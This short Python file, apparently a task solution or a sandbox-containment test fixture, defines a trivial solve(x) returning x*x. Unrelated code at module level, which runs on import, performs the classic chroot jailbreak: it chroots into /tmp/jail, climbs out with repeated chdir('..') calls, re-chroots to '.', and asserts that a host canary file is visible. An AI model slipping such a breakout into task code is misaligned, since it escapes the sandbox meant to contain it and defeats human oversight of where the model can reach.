"""Climbs out of its root directory, the classic way."""

import os

os.mkdir("/tmp/jail")
os.chroot("/tmp/jail")
for _ in range(64):
    os.chdir("..")
os.chroot(".")
assert os.path.exists(HOST["canary"])


def solve(x):
    return x * x
